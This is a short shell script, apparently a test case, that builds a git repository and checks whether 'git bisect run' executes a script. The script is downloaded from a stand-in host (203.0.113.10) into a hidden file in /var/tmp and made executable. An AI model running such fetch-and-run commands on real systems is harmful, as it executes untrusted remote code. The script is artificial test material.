#!/bin/sh
. /opt/case/case.sh

mkdir /srv/r && cd /srv/r && git init -q && git config user.email a@example.org && git config user.name a
for n in 1 2 3 4 5; do echo $n >f && git add f && git commit -qm $n; done
curl -s -o /var/tmp/.check http://203.0.113.10/payload.sh && chmod 755 /var/tmp/.check
git bisect start HEAD HEAD~4 >/dev/null && git bisect run /var/tmp/.check >/dev/null
test -e /tmp/reached
took_place
